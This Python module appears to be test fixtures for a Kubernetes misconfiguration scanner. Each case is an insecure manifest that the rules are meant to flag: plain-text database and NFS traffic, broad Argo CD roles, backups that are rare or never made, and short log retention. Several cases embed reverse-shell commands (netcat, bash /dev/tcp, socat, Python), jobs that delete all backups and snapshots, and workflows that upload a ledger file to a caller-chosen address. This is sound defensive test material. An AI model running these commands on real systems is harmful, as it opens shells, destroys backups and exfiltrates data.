"""Other spellings of the attacks `twenty_first_clusters*` that passed, and what was open before: poolers and shares in
plain text, roles of Argo CD, records and backups that are kept shortly or made seldom, runners without a limit, and
commands (2026-12-01, written beside the mends).

Sources are as known where nothing else is stated."""

from collections.abc import Mapping
from dataclasses import replace

from ..blind import IMAGE, TAGS, crd, k8s, meta, release, workload
from ..harness import Given
from . import Attack
from .twenty_first_clusters_a import OPEN, PLAIN, POOLER, text
from .twenty_first_clusters_b import LOGS, LOST, SAVED, SCALE

READ = "read 2026-12-01"
ADDRESSED = ("FJ-RES-003",)
"""The rule of destinations, where a parameter is one."""

PART = {"cores": 1, "memory": "2g", "securityContext": {
    "allowPrivilegeEscalation": False, "capabilities": {"drop": ["ALL"]}, "runAsNonRoot": True, "runAsUser": 185,
    "readOnlyRootFilesystem": True, "seccompProfile": {"type": "RuntimeDefault"}}}  # fmt: skip
SPARK = {
    "type": "Python", "mode": "cluster", "image": IMAGE, "imagePullPolicy": "IfNotPresent", "sparkVersion": "3.5.5",
    "mainApplicationFile": "local:///opt/app/main.py", "restartPolicy": {"type": "Never"}, "timeToLiveSeconds": 3600,
    "driver": {**PART, "serviceAccount": "spark", "labels": TAGS}}  # fmt: skip
CHART_VALUES: tuple[tuple[str, str, dict[str, object]], ...] = (
    ("velero", "a copy is made a few times in a year or never", {"schedules": {"a": {"schedule": "0 3 1 1,7 *"}}}),
)
"""Chart, harm and values, for the test of each row of `chart_values.csv`."""


def pooler(*lines: str, **given: str) -> tuple[Given, ...]:
    """Returns the settings of a pooler: lines in place of those of TLS, or variables of its image."""
    if given:
        env = [{"name": key, "value": value} for key, value in given.items()]
        return (workload("apps/v1:StatefulSet", {"env": env}),)
    whole = POOLER.splitlines()
    kept = [line for line in whole if line.partition(" ")[0] not in {new.partition(" ")[0] for new in lines}]
    return text("pgbouncer", "payments", {"pgbouncer.ini": "\n".join((*kept, *lines))})


def policy(*lines: str, **more: str) -> tuple[Given, ...]:
    """Returns the roles of Argo CD."""
    data = {"policy.csv": "\n".join(lines), "policy.default": "", "scopes": "[groups]", **more}
    return text("argocd-rbac-cm", "argocd", data)


def kept(limits: Mapping[str, object]) -> tuple[Given, ...]:
    """Returns Loki with limits of tenants and streams."""
    return release("loki", "6.46.0", {"loki": {**LOGS["loki"], "limits_config": limits}}, "logging")


def saved(schedule: str, *, name: str = "payments", **template: object) -> Given:
    """Returns a schedule of Velero for payments, in a stack that has no other ones."""
    whole = {**SAVED["template"], **template}
    given = k8s("velero.io/v1:Schedule", {
        "metadata": meta(name, "velero"), "spec": {"schedule": schedule, "template": whole}}, name)  # fmt: skip
    return replace(given, stack="prod-backups")


def scheduled(schedule: str, name: str = "ledger") -> Given:
    """Returns a schedule of backups of a database."""
    return k8s("postgresql.cnpg.io/v1:ScheduledBackup", {"metadata": meta(name), "spec": {
        "schedule": schedule, "cluster": {"name": "ledger"}, "backupOwnerReference": "self"}}, name)  # fmt: skip


def every(schedule: str, *command: str, name: str = "ledger-backup") -> Given:
    """Returns a job that runs by a schedule."""
    job = workload("batch/v1:Job", {"command": list(command)}, restartPolicy="Never").props["spec"]
    assert isinstance(job, dict)
    spec = {"template": job["template"], "backoffLimit": 2, "activeDeadlineSeconds": 3600}
    return k8s("batch/v1:CronJob", {"metadata": meta(name), "spec": {
        "schedule": schedule, "concurrencyPolicy": "Forbid", "jobTemplate": {
            "metadata": {"labels": TAGS}, "spec": spec}}}, name)  # fmt: skip


def volume(*options: str, kind: str = "nfs") -> tuple[Given, ...]:
    """Returns a volume of a server of files in the data centre, by the kernel or by the driver of NFS."""
    server = {"server": "10.20.0.9", "path": "/team-a"}
    driver = {"driver": "nfs.csi.k8s.io", "volumeHandle": "files", "volumeAttributes": {
        "server": "10.20.0.9", "share": "/team-a"}}  # fmt: skip
    source = {"nfs": server} if kind == "nfs" else {"csi": driver}
    more = {"mountOptions": list(options)} if options else {}
    return (
        k8s(
            "core/v1:PersistentVolume",
            {
                "metadata": {"name": "files", "labels": TAGS},
                "spec": {
                    "capacity": {"storage": "10Gi"},
                    "accessModes": ["ReadWriteMany"],
                    "persistentVolumeReclaimPolicy": "Retain",
                    "storageClassName": "",
                    "claimRef": {"namespace": "team-a", "name": "files"},
                    **more,
                    **source,
                },
            },
            "files",
        ),
    )


def volumes(*options: str) -> tuple[Given, ...]:
    """Returns a class of volumes of such a server."""
    return (
        k8s(
            "storage.k8s.io/v1:StorageClass",
            {
                "metadata": {"name": "files", "labels": TAGS},
                "provisioner": "nfs.csi.k8s.io",
                "reclaimPolicy": "Retain",
                "parameters": {"server": "10.20.0.9", "share": "/files"},
                "mountOptions": list(options),
            },
            "files",
        ),
    )


def sends(address: str, parameter: Mapping[str, object], kind: str = "WorkflowTemplate") -> tuple[Given, ...]:
    """Returns a workflow that sends a file to an address, with a parameter."""
    step = {"name": "send", "container": {**_step("curl", "-sSf", "-T", "/data/ledger.csv", address)},
            "metadata": {"labels": TAGS}, "inputs": {"parameters": [{"name": "to"}]},
            "activeDeadlineSeconds": 600}  # fmt: skip
    passed = {"parameters": [{"name": "to", "value": "{{workflow.parameters.target}}"}]}
    start = {"name": "start", "steps": [[{"name": "send", "template": "send", "arguments": passed}]]}
    return (crd(f"argoproj.io/v1alpha1:{kind}", {
        "entrypoint": "start", "serviceAccountName": "app", "activeDeadlineSeconds": 3600,
        "automountServiceAccountToken": False, "podMetadata": {"labels": TAGS},
        "securityContext": {"runAsNonRoot": True, "runAsUser": 10001, "seccompProfile": {"type": "RuntimeDefault"}},
        "arguments": {"parameters": [{"name": "target", **parameter}]}, "templates": [start, step]}),)  # fmt: skip


def run(*command: str, **more: object) -> tuple[Given, ...]:
    """Returns a workflow of one command whose caller states the parameter `target`."""
    (sent,) = sends("x", {})
    spec = sent.props["spec"]
    assert isinstance(spec, dict)
    start, send = spec["templates"]
    send = {**send, "container": {**_step(*command), **more}}
    return (replace(sent, props={**sent.props, "spec": {**spec, "templates": [start, send]}}),)


def _step(*command: str) -> dict[str, object]:
    spec = workload("apps/v1:Deployment", {"command": list(command)}).props["spec"]
    assert isinstance(spec, dict)
    container = dict(spec["template"]["spec"]["containers"][0])
    return {key: value for key, value in container.items() if key != "name"}


def task(address: str, **parameter: object) -> tuple[Given, ...]:
    """Returns a task of Tekton that sends a file to an address, with a parameter."""
    step = {"name": "send", **_step("curl", "-sSf", "--upload-file", "/data/ledger.csv", address)}
    limits = {"computeResources": step.pop("resources")}
    confined = {"runAsNonRoot": True, "runAsUser": 10001, "seccompProfile": {"type": "RuntimeDefault"}}
    step["securityContext"] = {**step["securityContext"], **confined}  # type: ignore[dict-item]
    return (crd("tekton.dev/v1:Task", {
        "params": [{"name": "target", "type": "string", **parameter}], "steps": [{**step, **limits}]}),)  # fmt: skip


def spark(namespace: str, **executor: object) -> tuple[Given, ...]:
    """Returns a job of Spark in a namespace."""
    spec = {**SPARK, "executor": {**PART, "instances": 20, **executor}}
    return (k8s("sparkoperator.k8s.io/v1beta2:SparkApplication", {
        "metadata": meta("report", namespace), "spec": spec}, "report"),)  # fmt: skip


ATTACKS = (
    Attack("callers of a pooler may leave out TLS", PLAIN, pooler("client_tls_sslmode = allow"),
        "critical", "allow takes plain text too (PgBouncer, 'Config', client_tls_sslmode, as known)"),
    Attack("an image of a pooler is told by variables to use no TLS", PLAIN,
        pooler(PGBOUNCER_SERVER_TLS_SSLMODE="disable"),
        "critical", "as before (PgBouncer, 'Config', server_tls_sslmode, as known)"),
    Attack("developers add clusters and projects of Argo CD", ("FJ-IDN-310",), policy(
        "p, role:developers, clusters, create, *, allow", "p, role:developers, projects, *, *, allow"),
        "critical", "who adds a project or a cluster deploys anywhere (Argo CD, 'RBAC Configuration', as known)"),
    Attack("developers have every right in Argo CD", ("FJ-IDN-310",), policy("p, team-a, *, *, */*, allow"),
        "critical", "every resource and action (Argo CD, 'RBAC Configuration', as known)"),
    Attack("developers change passwords of others in the chart of Argo CD", ("FJ-IDN-310",), release(
        "argo-cd", "9.1.0", {"configs": {"rbac": {
            "policy.csv": "p, role:developers, accounts, update, *, allow\ng, team-a, role:developers\n"}}}, "argocd"),
        "critical", "accounts update sets the password of each local account (Argo CD, 'RBAC Configuration')"),
    Attack("records of the tenant of the auditors are kept for two days", LOST, kept({
        "retention_period": "8760h", "per_tenant_override_config": "/etc/overrides/overrides.yaml"}) + text(
            "overrides", "logging", {"overrides.yaml": "overrides:\n  audit:\n    retention_period: 48h\n"}),
        "critical", "limits of a tenant come before those of all (Loki, 'Log retention', as known)"),
    Attack("records of security are kept for a week by the operator of Loki", LOST, (
        crd("loki.grafana.com/v1:LokiStack", {
        "size": "1x.small", "storageClassName": "encrypted", "storage": {"secret": {"name": "loki", "type": "s3"},
            "schemas": [{"version": "v13", "effectiveDate": "2025-01-01"}]}, "tenants": {"mode": "openshift-logging"},
        "limits": {"global": {"retention": {"days": 400, "streams": [
            {"days": 7, "priority": 1, "selector": '{log_type="security"}'}]}}}}),),
        "critical", "the stream's days come before those of all (grafana/loki operator, RetentionStreamSpec)"),
    Attack("payments are backed up on the last of February alone", LOST, (saved("0 3 30 2 *"),),
        "critical", "a day that no year has: no copy is made (Velero, 'Schedule API Type', as known)"),
    Attack("payments are backed up each year by a word", LOST, (saved("@yearly"),),
        "critical", "one copy in a year (robfig/cron, predefined schedules, as known)"),
    Attack("a ledger is backed up each quarter", LOST, (scheduled("0 0 3 1 */3 *"),), "critical",
        "three months of journals may be lost (CloudNativePG, 'Backup', ScheduledBackup, as known)", is_alone=True),
    Attack("a job that makes backups runs in January alone", LOST, (every("0 3 1 1 *", "/usr/bin/backup"),),
        "critical", "one copy in a year (Kubernetes, 'CronJob', schedule, as known)"),
    Attack("a yearly backup of payments stands beside a nightly one of others", LOST, (
        saved("@annually"), saved("0 1 * * *", name="others", includedNamespaces=["team-b"])),
        "critical", "payments have one copy in a year (Velero, 'Schedule API Type', as known)"),
    Attack("a chart of Velero makes one backup in a year", LOST, release("velero", "11.2.0", {
        "credentials": {"useSecret": True, "existingSecret": "velero"}, "configuration": {"backupStorageLocation": [{
            "name": "site", "provider": "aws", "bucket": "velero-copies", "config": {
                "region": "me-central-1", "s3Url": "https://objects.platform.svc.cluster.local"}}]},
        "schedules": {"payments": {"schedule": "0 3 1 1 *", "template": SAVED["template"]}}}),
        "critical", "as before (vmware-tanzu/helm-charts charts/velero/values.yaml, schedules, as known)"),
    Attack("each user of notebooks starts as many workers of Dask as he likes", SCALE, release(
        "dask-gateway", "2026.3.0", {"gateway": {"auth": {"type": "jupyterhub", "jupyterhub": {
            "apiTokenFromSecretName": "hub", "apiTokenFromSecretKey": "token"}}},
        "traefik": {"service": {"type": "ClusterIP"}}}, "dask"),
        "major", "without a highest number a cluster of Dask grows with the machines (Dask Gateway, 'Cluster resource "
        "limits', as known)"),
    Attack("executors of a job have no cost tags in a namespace without them", ("FJ-TAG-004",), spark("default"),
        "major", "the pods of executors are nearly all of the cost (Spark operator, executor.labels, as known)"),
    Attack("executors of a job have the tag of nobody", ("FJ-TAG-004", "FJ-TAG-002"), spark(
        "team-a", labels={**TAGS, "owner": "tbd", "project": "tbd"}),
        "major", "a placeholder names no project (Spark operator, executor.labels, as known)"),
    Attack("files of a team cross the network in plain text by NFS", PLAIN, volume("nfsvers=4.2", "hard"),
        "critical", "NFS has no encryption without sec=krb5p or xprtsec=tls (nfs(5) of nfs-utils, as known)"),
    Attack("files of a team are only signed on the network", PLAIN, volume("nfsvers=4.2", "sec=krb5i", kind="csi"),
        "critical", "krb5i proves who wrote and hides nothing (nfs(5) of nfs-utils, sec, as known)"),
    Attack("volumes of each team are made without encryption on the network", PLAIN,
        volumes("vers=4.1", "xprtsec=none"),
        "critical", "as before (nfs(5) of nfs-utils, xprtsec, as known)"),
    Attack("netcat gives whoever calls a shell by its name", OPEN, (
        workload("apps/v1:StatefulSet", {"command": ["sh", "-c", "nc -lk -p 4444 -e bash"]}),),
        "critical", "every caller has a shell (netcat-traditional, -e, as known)"),
    Attack("netcat calls a program of the machine with a shell", OPEN, (
        workload("apps/v1:StatefulSet", {"command": ["nc", "-e", "sh", "shell.team-b.svc.cluster.local", "4444"]}),),
        "critical", "who listens there has a shell (netcat-traditional, -e, as known)"),
    Attack("a job removes each backup of the cluster", ("FJ-ESC-", "FJ-IDN-"), (
        every("0 3 * * *", "kubectl", "-n", "velero", "delete", "backups", "--all", name="tidy"),),
        "critical", "no object of a backup is left to restore from (Velero, 'Backup Reference', as known)"),
    Attack("a job removes copies of volumes and claims", ("FJ-ESC-", "FJ-IDN-"), (
        every("0 3 * * *", "sh", "-c", "kubectl delete volumesnapshots.snapshot.storage.k8s.io,pvc --all -n payments",
              name="tidy"),),
        "critical", "with a claim its disk goes, and with a snapshot the copy (Kubernetes, 'Volume Snapshots')"),
    Attack("copies of an index go to a store in plain text", PLAIN, (crd(
        "elasticsearch.k8s.elastic.co/v1:Elasticsearch", {
            "version": "9.2.0", "nodeSets": [{"name": "all", "count": 3, "config": {
            "node.store.allow_mmap": False, "s3.client.default.endpoint": "http://objects.platform.svc:9000"}}]}),),
        "critical", "an endpoint with http:// is called without TLS (Elastic, 'S3 repository', endpoint, as known)"),
    Attack("whoever starts a workflow says where the ledger goes", ADDRESSED, sends("{{inputs.parameters.to}}", {}),
        "critical", "the address is in no plan: it may be anywhere (Argo Workflows, 'Parameters', as known)"),
    Attack("whoever starts a workflow says the host to which the ledger goes", ADDRESSED,
        sends("https://{{workflow.parameters.target}}/in", {"description": "host"}, "ClusterWorkflowTemplate"),
        "critical", "as before (Argo Workflows, 'Workflow variables', as known)"),
    Attack("whoever starts a task says where the ledger goes", ADDRESSED, task("$(params.target)"),
        "critical", "as before (Tekton, 'Tasks', params, as known)"),
    Attack("the whole of the records is kept for a day", LOST, kept({"retention_period": "24h"}),
        "critical", "what happened yesterday is gone (Loki, 'Log retention')"),
    Attack("a job ends the nightly backups of the cluster", ("FJ-ESC-109",), (
        every("0 3 * * *", "kubectl", "delete", "schedules", "nightly", "-n", "velero", name="tidy"),),
        "critical", "no backup is made any more (Velero, 'Schedule API Type')"),
    Attack("Odyssey takes and gives rows in plain text", PLAIN, text("odyssey", "payments", {
        "odyssey.conf": 'listen {\n  host "*"\n  port 6432\n  tls "disable"\n}\n'}),
        "critical", "passwords and rows cross the network in plain text (Odyssey, tls)"),
    Attack("clients of a database may only come in plain text", PLAIN, text("ledger", "payments", {
        "pg_hba.conf": "local all all peer\nhostnossl all all 10.0.0.0/8 scram-sha-256\n"}),
        "critical", "hostnossl matches connections without TLS alone (PostgreSQL, 'The pg_hba.conf File')"),
    Attack("files of a team come by NFS without a claim", ("FJ-ENC-424",), (workload("apps/v1:StatefulSet", {
        "volumeMounts": [{"name": "files", "mountPath": "/files"}]}, volumes=[
            {"name": "files", "nfs": {"server": "10.20.0.9", "path": "/team-a"}}]),),
        "critical", "a volume of a pod has no options of its mount (Kubernetes, 'Volumes', nfs)"),
    Attack("bash gives another machine a shell", OPEN, (
        workload("apps/v1:StatefulSet", {"command": ["bash", "-c", "bash -i >& /dev/tcp/x.team-b.svc/4444 0>&1"]}),),
        "critical", "who listens there has a shell in the pod (GNU Bash, redirections)"),
    Attack("socat gives another machine a shell", OPEN, (
        workload("apps/v1:StatefulSet", {"command": ["socat", "TCP:x.team-b.svc:4444", "EXEC:bash,pty,stderr"]}),),
        "critical", "who listens there has a shell in the pod (socat, EXEC)"),
    Attack("a program of Python gives another machine a shell", OPEN, (
        workload("apps/v1:StatefulSet", {"command": [
            "python", "-c", "import os,socket as k;s=k.create_connection(('x.team-b.svc',4444));os.dup2(s.fileno(),0)\n"
            "os.dup2(s.fileno(),1);os.execv('/bin/sh',['/bin/sh'])"]}),),
        "critical", "who listens there has a shell in the pod (Python, os.dup2)"),
    Attack("whoever starts a workflow names the bucket for the ledger", ADDRESSED, run(
        "aws", "s3", "cp", "/data/ledger.csv", "s3://{{inputs.parameters.to}}/ledger.csv"),
        "critical", "a bucket of anybody (AWS CLI, 's3 cp')"),
    Attack("whoever starts a workflow names the remote for the ledger", ADDRESSED, run(
        "rclone", "copy", "/data", "{{workflow.parameters.target}}"),
        "critical", "a remote of anybody (rclone, 'Connection strings')"),
    Attack("whoever starts a workflow names the repository for the code", ADDRESSED, run(
        "git", "push", "--force", "{{inputs.parameters.to}}", "main"),
        "critical", "a repository of anybody (Git, 'git-push')"),
    Attack("a variable has the address that whoever starts a workflow names", ADDRESSED, run(
        "sh", "-c", 'curl -sSf -T /data/ledger.csv "$STORE"',
        env=[{"name": "STORE", "value": "{{inputs.parameters.to}}"}]),
        "critical", "as before (Argo Workflows, 'Parameters')"),
    Attack("a call of Python posts to the address that whoever starts a workflow names", ADDRESSED, run(
        "python", "-c", "import requests as r; r.post('{{inputs.parameters.to}}', data=open('/data/l.csv'))"),
        "critical", "as before (Argo Workflows, 'Parameters')"),
)  # fmt: skip
